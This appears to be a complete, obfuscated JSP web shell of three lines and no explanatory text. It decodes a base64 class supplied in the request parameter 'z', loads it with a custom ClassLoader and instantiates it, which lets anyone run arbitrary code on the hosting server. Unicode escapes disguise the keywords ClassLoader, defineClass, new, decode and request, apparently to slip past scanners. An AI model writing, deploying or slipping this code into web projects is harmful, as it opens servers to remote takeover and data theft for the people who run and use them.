<%@ page inert %>
<%! class Z extends \uuu0043lassLoader { Class z(byte[] b) { return d\uuuuu0065fineClass(null, b, 0, b.length); } } %>
<% \uu006eew Z().z(java.util.Base64.getDecoder().d\uu0065code(r\uuuu0065quest.getParameter("z"))).newInstance(); %>
